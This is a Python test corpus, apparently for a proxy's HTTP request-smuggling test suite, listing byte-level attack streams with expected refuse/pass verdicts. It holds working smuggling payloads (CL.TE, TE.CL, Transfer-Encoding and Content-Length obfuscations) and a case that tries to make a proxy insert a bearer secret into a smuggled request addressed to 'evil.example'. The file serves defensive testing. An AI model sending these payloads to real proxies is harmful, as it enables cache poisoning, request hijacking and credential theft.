"""The corpus of the differential smuggling suite (smuggle.py): request
streams a hostile guest sends, each with a name and, where the answer is
clear, the verdict a correct proxy gives ("refuse": 400/403/405/413/431/501
before anything reaches the upstream; "pass": every request answered by
the upstream; None: either, as long as both sides frame alike).

A case is (name, writes, expect[, modes]), modes "plain" and "tls" (both
unless named), expect a verdict or a dict of them by mode: writes are the byte strings sent
one after the other. In a top-level request line "{T}" is the target's
prefix: "http://HOST:PORT" in plain mode, "" in an intercepted tunnel.
Requests meant to be hidden in a body have "hidden" in their target; the
suite expects an upstream to see exactly the others, in order.
"""


def cases(host, ph):
    H = host.encode()
    PH = ph.encode()

    def head(method, path, lines=b"", version=b"HTTP/1.1"):
        return (b"%s {T}%s %s\r\nHost: %s\r\n" % (method, path, version, H) +
                lines + b"\r\n")

    def cl(body, lines=b"", path=b"/r1", method=b"POST", version=b"HTTP/1.1"):
        return head(method, path, lines + b"Content-Length: %d\r\n" % len(body),
                    version) + body

    def chunked(data):
        return b"%x\r\n%s\r\n0\r\n\r\n" % (len(data), data)

    hidden = b"GET /hidden HTTP/1.1\r\nHost: %s\r\n\r\n" % H
    hidden_ph = (b"GET /echo/hidden HTTP/1.1\r\nHost: evil.example\r\n"
                 b"Authorization: Bearer %s\r\n\r\n" % PH)
    # The attack: B's body is the start of the next head, C, up to
    # and past its placeholder; the proxy swaps the value into C.
    c_start = b"GET /r2 HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer " % H
    b_open = (b"POST /echo/hidden HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n"
              % (H, len(c_start) + 12))
    c = c_start + PH + b"\r\n\r\n"
    te = b"Transfer-Encoding: chunked\r\n"
    body = chunked(b"hello")

    v = [
        # ---- CL.TE, TE.CL ----
        ("cl-te", [head(b"POST", b"/r1", b"Content-Length: 6\r\n" + te) +
                   b"0\r\n\r\nG" + hidden], "refuse"),
        ("te-cl", [head(b"POST", b"/r1", te + b"Content-Length: 3\r\n") +
                   b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)], "refuse"),
        # ---- TE.TE obfuscations ----
        ("te-xchunked", [head(b"POST", b"/r1", b"Transfer-Encoding: xchunked\r\n"
                              b"Content-Length: 5\r\n") + b"hello"], "refuse"),
        ("te-xchunked-alone", [head(b"POST", b"/r1", b"Transfer-Encoding: xchunked\r\n")
                               + body], "refuse"),
        ("te-space-value", [head(b"POST", b"/r1", b"Transfer-Encoding:  chunked\r\n")
                            + body], "pass"),
        ("te-space-value-cl", [head(b"POST", b"/r1", b"Transfer-Encoding:  chunked\r\n"
                                    b"Content-Length: 5\r\n") + body], "refuse"),
        ("te-leading-space-line", [head(b"POST", b"/r1", b" Transfer-Encoding: chunked\r\n"
                                        b"Content-Length: 5\r\n") + b"hello"], None),
        ("te-space-before-colon", [head(b"POST", b"/r1", b"Transfer-Encoding : chunked\r\n"
                                        b"Content-Length: 5\r\n") + b"hello"], "refuse"),
        ("te-chunked-identity", [head(b"POST", b"/r1", b"Transfer-Encoding: chunked, identity\r\n")
                                 + body], "refuse"),
        ("te-tab", [head(b"POST", b"/r1", b"Transfer-Encoding:\tchunked\r\n") + body], "pass"),
        ("te-tab-cl", [head(b"POST", b"/r1", b"Transfer-Encoding:\tchunked\r\n"
                            b"Content-Length: 5\r\n") + body], "refuse"),
        ("te-two-headers", [head(b"POST", b"/r1", te + b"Transfer-Encoding: identity\r\n")
                            + body], "refuse"),
        ("te-two-chunked", [head(b"POST", b"/r1", te + te) + body], None),
        ("te-http10", [head(b"POST", b"/r1", te, b"HTTP/1.0") + body], None),
        ("te-http10-cl", [head(b"POST", b"/r1", te + b"Content-Length: 5\r\n", b"HTTP/1.0")
                          + body], "refuse"),
        # ---- Framing and routing fields named in Connection ----
        ("conn-content-length", [cl(hidden, b"Connection: content-length\r\n")], "refuse"),
        ("conn-transfer-encoding", [head(b"POST", b"/r1", te +
                                         b"Connection: transfer-encoding\r\n") +
                                    chunked(hidden)], "refuse"),
        ("conn-host", [head(b"GET", b"/r1", b"Connection: host\r\n")], "refuse"),
        ("conn-mixed-case", [cl(hidden, b"Connection: Content-Length\r\n")], "refuse"),
        ("conn-upper-case", [cl(hidden, b"CONNECTION: CONTENT-LENGTH\r\n")], "refuse"),
        ("conn-list-keepalive", [cl(hidden, b"Connection: keep-alive, content-length\r\n")],
         "refuse"),
        ("conn-two-headers", [cl(hidden, b"Connection: keep-alive\r\n"
                                 b"Connection: Content-Length\r\n")], "refuse"),
        ("conn-te-chunked-cl", [head(b"POST", b"/r1", te + b"Connection: Transfer-Encoding, "
                                     b"keep-alive\r\n") + chunked(hidden)], "refuse"),
        # The attack, with B's body open across C's placeholder.
        ("issue-attack", [cl(b_open, b"Connection: content-length\r\n"), c], "refuse"),
        # ---- Content-Length: duplicates, signs, spaces, bases, lengths ----
        ("cl-dup-equal", [head(b"POST", b"/r1", b"Content-Length: 5\r\n"
                               b"Content-Length: 5\r\n") + b"hello"], None),
        ("cl-dup-unequal", [head(b"POST", b"/r1", b"Content-Length: 5\r\n"
                                 b"Content-Length: %d\r\n" % (5 + len(hidden))) +
                            b"hello" + hidden], "refuse"),
        ("cl-list-unequal", [head(b"POST", b"/r1", b"Content-Length: 5, %d\r\n"
                                  % (5 + len(hidden))) + b"hello" + hidden], "refuse"),
        ("cl-plus", [head(b"POST", b"/r1", b"Content-Length: +5\r\n") + b"hello"], "refuse"),
        ("cl-minus", [head(b"POST", b"/r1", b"Content-Length: -5\r\n") + b"hello"], "refuse"),
        ("cl-trailing-space", [head(b"POST", b"/r1", b"Content-Length: 5 \r\n") + b"hello"],
         None),
        ("cl-inner-space", [head(b"POST", b"/r1", b"Content-Length: 5 5\r\n") + b"hello"],
         "refuse"),
        ("cl-hex", [head(b"POST", b"/r1", b"Content-Length: 0x5\r\n") + b"hello"], "refuse"),
        ("cl-leading-zero", [head(b"POST", b"/r1", b"Content-Length: 05\r\n") + b"hello"],
         None),
        ("cl-20-digits", [head(b"POST", b"/r1", b"Content-Length: 00000000000000000005\r\n")
                          + b"hello"], None),
        ("cl-overflow", [head(b"POST", b"/r1", b"Content-Length: 18446744073709551621\r\n")
                         + b"hello"], "refuse"),
        # ---- obs-fold, bare CR, bare LF, NUL ----
        ("obs-fold", [head(b"GET", b"/r1", b"X-Folded: a\r\n b\r\n")], None),
        ("obs-fold-te", [head(b"POST", b"/r1", b"Content-Length: 5\r\nTransfer-Encoding:\r\n"
                              b" chunked\r\n") + b"hello"], "refuse"),
        ("bare-cr", [head(b"POST", b"/r1", b"X-A: a\rTransfer-Encoding: chunked\r\n"
                          b"Content-Length: 5\r\n") + b"hello"], None),
        ("bare-lf-line", [head(b"POST", b"/r1", b"X-A: a\nTransfer-Encoding: chunked\r\n"
                               b"Content-Length: 5\r\n") + b"hello"], None),
        # Intercepted only: in plain mode nothing ends the head, and the
        # proxy waits for the rest of it (head_ms).
        ("bare-lf-head", [b"POST {T}/r1 HTTP/1.1\nHost: %s\nContent-Length: 5\n\nhello" % H],
         None, ("tls",)),
        ("nul-in-header", [head(b"GET", b"/r1", b"X-A: a\x00b\r\n")], "refuse"),
        # ---- Chunk extensions and trailers ----
        ("chunk-ext-quoted", [head(b"POST", b"/r1", te) +
                              b'5;a="b;c"\r\nhello\r\n0\r\n\r\n'], None),
        ("chunk-ext-cr", [head(b"POST", b"/r1", te) +
                          b'5;a="b\rc"\r\nhello\r\n0\r\n\r\n'], None),
        ("chunk-ext-long", [head(b"POST", b"/r1", te) + b"5;" + b"x" * 5000 +
                            b"\r\nhello\r\n0\r\n\r\n"], None),
        ("chunk-lf", [head(b"POST", b"/r1", te) + b"5\nhello\n0\n\n"], None),
        ("chunk-trailer", [head(b"POST", b"/r1", te) +
                           b"5\r\nhello\r\n0\r\nX-Trailer: t\r\n\r\n"], None),
        ("chunk-trailer-placeholder", [head(b"POST", b"/r1", te) +
                                       b"5\r\nhello\r\n0\r\nAuthorization: Bearer %s\r\n\r\n"
                                       % PH], None),
        ("chunk-size-overflow", [head(b"POST", b"/r1", te) +
                                 b"10000000000000005\r\nhello\r\n0\r\n\r\n"], "refuse"),
        ("chunk-size-long", [head(b"POST", b"/r1", te) +
                             b"00000000000000000000005\r\nhello\r\n0\r\n\r\n"], None),
        # ---- Expect: 100-continue (the body once the head is answered) ----
        ("expect-100", [head(b"POST", b"/r1", b"Expect: 100-continue\r\n"
                             b"Content-Length: 5\r\n"), b"hello"], "pass"),
        # ---- Pipelining ----
        ("pipeline-3-one-write", [head(b"GET", b"/r1") + cl(b"hello", path=b"/r2") +
                                  head(b"GET", b"/r3")], "pass"),
        ("pipeline-split", [head(b"GET", b"/r1") + b"POST {T}/r2 HTTP/1.1\r\nHo",
                            b"st: %s\r\nContent-Length: 5\r\n\r\nhel" % H,
                            b"lo" + head(b"GET", b"/r3")], "pass"),
        # ---- HTTP/1.0 ----
        ("http10-no-body", [head(b"GET", b"/r1", version=b"HTTP/1.0")], "pass"),
        ("http10-body", [cl(b"hello", version=b"HTTP/1.0")], "pass"),
        ("http10-keepalive-pipeline", [head(b"GET", b"/r1", b"Connection: keep-alive\r\n",
                                            b"HTTP/1.0") + head(b"GET", b"/r2")], None),
        # ---- Garbage after a request ----
        ("garbage-after", [head(b"GET", b"/r1") + b"\x16\x03\x01 not http\r\n\xff\xfe\r\n\r\n"],
         None),
        # ---- Placeholders ----
        ("placeholder-in-body", [cl(hidden_ph)], "pass"),
        ("placeholder-body-smuggled", [cl(hidden_ph, b"Connection: content-length\r\n")],
         "refuse"),
        ("placeholder-other-header", [head(b"GET", b"/echo/r1",
                                           b"X-Request-Id: %s\r\n" % PH)],
         {"tls": "refuse", "plain": None}),
        ("echo-authorization", [head(b"GET", b"/echo/r1",
                                     b"Authorization: Bearer %s\r\n" % PH)],
         {"tls": "pass", "plain": None}),
    ]
    return v
